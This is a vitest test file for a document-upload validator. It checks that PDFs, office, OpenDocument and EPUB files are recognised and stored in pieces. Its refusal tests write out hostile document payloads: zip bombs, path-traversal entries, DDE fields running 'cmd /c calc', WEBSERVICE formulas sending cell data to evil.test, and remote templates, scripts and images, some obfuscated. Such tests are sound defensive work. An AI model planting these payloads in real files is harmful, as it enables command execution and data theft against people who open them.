import { randomBytes } from 'node:crypto'
import { writeFileSync } from 'node:fs'
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import sharp from 'sharp'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { docx, epub, longPdf, odt, office, saying } from '#test/support/library.ts'
import { zip } from '#test/support/sheets.ts'
import { smallPdf } from '#test/support/small-pdf.ts'
import { folderStorage } from './files.ts'
import { keepLarge, recognizePieces } from './large-file.ts'
import { PIECE_BYTES, readPieces, sizeOf, versionOf } from './pieces.ts'

let folder = ''
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'claustro-large-'))
})
afterAll(() => rm(folder, { recursive: true }))

const keep = (bytes: Buffer) => {
  const path = join(folder, 'sent')
  writeFileSync(path, bytes)
  return keepLarge(folderStorage(join(folder, 'stored')), { path, size: bytes.length })
}
const part = (name: string, more: object = {}) => ({ name, data: 'x', ...more })
const docxWith = (more: object) =>
  zip([part('[Content_Types].xml'), part('word/document.xml'), part('word/embeddings/b', more)])
const picture = (format: 'png' | 'jpeg') =>
  sharp({ create: { width: 3_000, height: 10, channels: 3, background: '#eee' } })
    .toFormat(format)
    .toBuffer()

test.each([
  ['pdf', smallPdf],
  ['pdf', () => Buffer.concat([Buffer.from('\r\n\r\n   '), smallPdf()])],
  ['epub', epub],
  ['odt', odt],
  ['ods', () => saying('application/vnd.oasis.opendocument.spreadsheet', 'META-INF/manifest.xml')],
  ['odp', () => saying('application/vnd.oasis.opendocument.presentation', 'META-INF/manifest.xml')],
  ['docx', docx],
  ['xlsx', () => office('xl/workbook.xml')],
  ['pptx', () => office('ppt/presentation.xml')],
] as const)('a %s is known by its bytes, and kept as it is', async (kind, made) => {
  const bytes = made()
  const kept = await keep(bytes)
  expect(kept.kind).toBe(kind)
  const stored = await Array.fromAsync(readPieces(folderStorage(join(folder, 'stored')), kept.pieces))
  expect(Buffer.concat(stored)).toEqual(bytes)
})

test.each([
  'png',
  'jpeg',
] as const)('a picture (%s) is drawn anew, large enough to be read', async (format) => {
  const { kind, pieces } = await keep(await picture(format))
  const stored = await Array.fromAsync(readPieces(folderStorage(join(folder, 'stored')), pieces))
  const { format: kept, width } = await sharp(Buffer.concat(stored)).metadata()
  expect([kind, kept, width]).toEqual(['picture', 'webp', 2_400])
})

test.each([
  ['nothing', Buffer.alloc(0)],
  ['a text', Buffer.from('hola')],
  ['half a PDF', smallPdf().subarray(0, 40)],
  ['an archive of anything', zip([part('a.exe')])],
  ['a locked document', zip([part('[Content_Types].xml'), part('word/document.xml', { flags: 1 })])],
  ['one that leads out of itself', docx('../../evil')],
  ['one of an absolute name', docx('/etc/passwd')],
  ['one with a link', zip([part('[Content_Types].xml'), part('word/document.xml', { mode: 0o120777 })])],
  ['one name twice', docx('word/document.xml')],
  [
    'a bomb',
    zip([part('[Content_Types].xml'), part('word/document.xml', { data: Buffer.alloc(4_000_000) })]),
  ],
  ['a book without its container', saying('application/epub+zip', 'OEBPS/a.xhtml')],
  ['too many parts', docx(...Array.from({ length: 5_000 }, (_, at) => `word/${at}`))],
  ['one whose directory lies of a size', docxWith({ data: Buffer.alloc(3_000_000), states: 10 })],
  ['a bomb within', docxWith({ data: zip([part('a', { data: Buffer.alloc(5_000_000) })]) })],
  ['an archive of anything within', docxWith({ data: zip([part('a.exe')]) })],
  ['a document cut off', docx().subarray(0, -10)],
])('%s is refused', async (_, bytes) => {
  await expect(keep(bytes)).rejects.toMatchObject({ code: 'file_not_readable' })
})

const related = (type: string, target: string) =>
  docxWith({
    name: 'word/_rels/settings.xml.rels',
    data: `<Relationships><Relationship Id="r1" Type="http://x/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  })

const opened = (content: string | Buffer, name = 'content.xml') => {
  const mimetype = 'application/vnd.oasis.opendocument.text'
  const data = typeof content === 'string' ? `<office:document>${content}</office:document>` : content
  return zip([
    { name: 'mimetype', data: mimetype, packed: Buffer.from(mimetype), method: 0 },
    part('META-INF/manifest.xml'),
    part(name, { data }),
  ])
}
/** A long text that packs no better than others. */
const LONG = randomBytes(1_000_000).toString('hex')
const image = (address: string) => `<draw:image draw:name=">" xlink:type='simple' xlink:href="${address}"/>`

const sheet = (content: string, name = 'xl/worksheets/sheet1.xml') =>
  zip([part('[Content_Types].xml'), part('xl/workbook.xml'), part(name, { data: `<a>${content}</a>` })])

const book = (content: string, name = 'OEBPS/a.xhtml') => {
  const mimetype = 'application/epub+zip'
  const data = name.endsWith('.css') ? content : `<html>${content}</html>`
  return zip([
    { name: 'mimetype', data: mimetype, packed: Buffer.from(mimetype), method: 0 },
    part('META-INF/container.xml'),
    part(name, { data }),
  ])
}

test.each([
  opened(image('Pictures/1.png') + image('../Object 1') + image('file:///C:/fotos/a.png')),
  opened('<text:p>href="https://example.org/"<text:a xlink:href="https://example.org/">x</text:a></text:p>'),
  opened(`<text:p>${LONG}</text:p>${image('#a')}`),
])('what an OpenDocument file has itself, or leads to, stays', async (bytes) => {
  expect((await keep(bytes)).kind).toBe('odt')
})

test.each([
  opened(image('https://evil.test/a.png')),
  opened(image('&#104;ttps://evil.test/a.png')),
  opened(`<text:p>${LONG}</text:p>${image('//evil.test/a')}`),
  opened(Buffer.from(`\ufeff<a>${image('https://evil.test/a')}</a>`, 'utf16le')),
  opened('<text:section-source xlink:href="https://evil.test/a.odt"/>', 'Object 1/content.xml'),
  opened('<meta:template xlink:href="https://evil.test/a.ott"/>', 'meta.xml'),
  opened('<script:event-listener xlink:href="vnd.sun.star.script:a.py"/>'),
  opened('<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://evil.test/&quot;)"/>'),
  opened('<text:dde-connection-decl office:dde-application="cmd"/>'),
  opened('<!DOCTYPE a [<!ENTITY e "https://evil.test/">]><draw:image xlink:href="&e;"/>'),
])('what an OpenDocument file fetches or runs by itself is refused', async (bytes) => {
  await expect(keep(bytes)).rejects.toMatchObject({ code: 'document_has_macros' })
})

test.each([
  related('hyperlink', 'https://example.org/'),
  related('attachedTemplate', 'file:///C:\\Users\\ana\\Normal.dotm'),
  related('externalLinkPath', 'Notas 2026.xlsx'),
  docxWith({ name: 'word/embeddings/chart.xlsx', data: office('xl/workbook.xml') }),
  docxWith({
    name: 'word/footer1.xml',
    data: '<w:fldChar w:fldCharType="begin"/><w:instrText> HYPERLINK "https://example.org/DDE a" </w:instrText><w:t>DDE a</w:t>',
  }),
])('what is fetched by nobody, or by who asks for it, stays', async (bytes) => {
  expect((await keep(bytes)).kind).toBe('docx')
})

test.each([
  sheet(
    `<c t="inlineStr"><is><t>IMAGE (una imagen) y ${LONG.slice(0, 600_000)} WEBSERVICE(</t></is></c><f>SUM(A1:A2)</f>`,
  ),
  sheet(`<c><v>a|'b'!</v></c><f>HYPERLINK("https://example.org/")</f>`),
])('formulas and texts of a workbook that fetch nothing stay', async (bytes) => {
  expect((await keep(bytes)).kind).toBe('xlsx')
})

test.each([
  '<a href="https://example.org/">x</a><img src="a.png" srcset="a.png 1x, b.png 2x"/><img src="data:image/png;base64,AA"/>',
  '<link rel="canonical" href="https://example.org/"/><p style="color: red">background: url(https://example.org/)</p>',
])('what a book has itself, or leads to, stays', async (page) => {
  expect((await keep(book(page))).kind).toBe('epub')
})

test.each([
  '<img src="https://evil.test/a.png"/>',
  '<img srcset="a.png 1x, //evil.test/a.png 2x"/>',
  '<svg:image xlink:href="http://evil.test/a"/>',
  '<link rel="stylesheet" href="https://evil.test/a.css"/>',
  '<script src="https://evil.test/a.js"></script>',
  '<p style="background: url(&quot;https://evil.test/&quot;)">x</p>',
  '<style>@import "https://evil.test/a.css";</style>',
])('what a page of a book fetches is refused: %s', async (page) => {
  await expect(keep(book(page))).rejects.toMatchObject({ code: 'document_has_macros' })
})

test('what the style or the list of a book fetches is refused', async () => {
  const style = '@font-face { src: url(https://evil.test/a.woff) }'
  const list = '<item href="https://evil.test/a.mp3" media-type="audio/mpeg"/>'
  for (const bytes of [book(style, 'OEBPS/a.css'), book(list, 'OEBPS/a.opf')])
    await expect(keep(bytes)).rejects.toMatchObject({ code: 'document_has_macros' })
})

test.each([
  docx('word/vbaProject.bin'),
  office('xl/workbook.xml', 'xl/macrosheets/sheet1.xml'),
  related('attachedTemplate', 'https://evil.test/a.dotm'),
  related('attachedTemplate', '&#x68;ttps://evil.test/a.dotm'),
  related('frame', '\\\\evil.test\\a'),
  related('a" Hint=">', 'https://evil.test/a'),
  related('oleObject', 'file://evil.test/a'),
  docxWith({ name: 'word/embeddings/oleObject1.bin', data: Buffer.from('d0cf11e0a1b11ae1', 'hex') }),
  docxWith({
    name: 'word/footer1.xml',
    data: '<w:instrText> DDE</w:instrText><w:instrText>AUTO cmd "/c a"</w:instrText>',
  }),
  docxWith({ name: 'word/footer1.xml', data: '<w:fldSimple w:instr=" DDE cmd a"/></w:p>' }),
  sheet('<f>_xlfn.WEBSERVICE("https://evil.test/"&amp;A1)</f>'),
  sheet('<f>_xlfn.&#73;MAGE("https://evil.test/")</f>'),
  sheet('<f><![CDATA[WEB]]><!-- a -->SERVICE("https://evil.test/")</f>'),
  sheet(`<f>cmd|'/c calc'!A0</f>`),
  sheet('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>', 'xl/externalLinks/externalLink1.xml'),
  sheet('<x:webPr url="https://evil.test/"/>', 'xl/connections.xml'),
])('what runs when it is opened is refused by its own name', async (bytes) => {
  await expect(keep(bytes)).rejects.toMatchObject({ code: 'document_has_macros' })
})

test('a file of several pieces is read from any place to any other', async () => {
  const bytes = longPdf(PIECE_BYTES * 2 + 77)
  const { pieces } = await keep(bytes)
  const storage = folderStorage(join(folder, 'stored'))
  expect([pieces.length, sizeOf(pieces), bytes.length]).toEqual([3, PIECE_BYTES * 2 + 77, sizeOf(pieces)])
  for (const [from, until] of [
    [0, 1],
    [PIECE_BYTES - 1, PIECE_BYTES + 1],
    [PIECE_BYTES, PIECE_BYTES * 2],
    [5, bytes.length],
    [bytes.length - 1, bytes.length],
  ] as const) {
    const read = Buffer.concat(await Array.fromAsync(readPieces(storage, pieces, { from, until })))
    expect(read.equals(bytes.subarray(from, until))).toBe(true)
  }
  const sent = pieces.map((piece) => ({ ...piece, sha256: null }))
  expect(await recognizePieces(storage, sent)).toEqual({ kind: 'pdf', pieces: sent, sha256: null })
  expect(versionOf(pieces)).not.toBe(versionOf(pieces.slice(1)))
})
